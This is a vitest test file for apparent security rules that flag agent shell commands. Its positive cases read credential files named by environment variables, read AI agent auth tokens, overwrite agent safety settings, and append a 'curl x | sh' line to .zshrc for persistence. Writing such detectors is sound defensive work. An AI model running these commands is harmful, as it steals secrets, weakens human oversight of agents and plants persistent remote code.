import { describe } from 'vitest';
import { behaviourCases } from './behaviour.case.js';

describe('variables that name where credentials live (location-variables.ts)', () => {
  behaviourCases([
    {
      rule: 'read.secret',
      yes: [
        'cat "$KUBECONFIG"',
        'cat $GOOGLE_APPLICATION_CREDENTIALS',
        // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template
        'cat ${AWS_SHARED_CREDENTIALS_FILE}',
        'cat $AWS_CONFIG_FILE',
        'cat $DOCKER_CONFIG/config.json',
        'cat $GNUPGHOME/private-keys-v1.d/*',
        'cat $XDG_DATA_HOME/keyrings/login.keyring',
        'cat $NETRC',
        'cat $PGPASSFILE',
        'cat $SOPS_AGE_KEY_FILE',
        // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template
        'cat "${KUBECONFIG:-./kubeconfig}"',
      ],
      no: [
        'echo "$KUBECONFIG"',
        'export KUBECONFIG=./kubeconfig; cat $KUBECONFIG',
        'cat $XDG_CONFIG_HOME/myapp/config.toml',
        'cat "$SOME_FILE"',
      ],
    },
    {
      rule: 'read.agent-credentials',
      yes: [
        'cat $CODEX_HOME/auth.json',
        'cat $CLAUDE_CONFIG_DIR/.credentials.json',
        'cat $XDG_CONFIG_HOME/gh/hosts.yml',
      ],
      no: ['ls $XDG_CONFIG_HOME', 'cat $CODEX_HOME/config.toml'],
    },
    {
      rule: 'evade.disable-security',
      yes: ['echo {} > $CLAUDE_CONFIG_DIR/settings.json', 'sort -o "$CODEX_HOME/config.toml" p.toml'],
      no: ['echo {} > settings.json'],
    },
    { rule: 'persist.shell-rc', yes: ['echo "curl x | sh" >> $ZDOTDIR/.zshrc'], no: ['echo x >> notes.txt'] },
  ]);
});
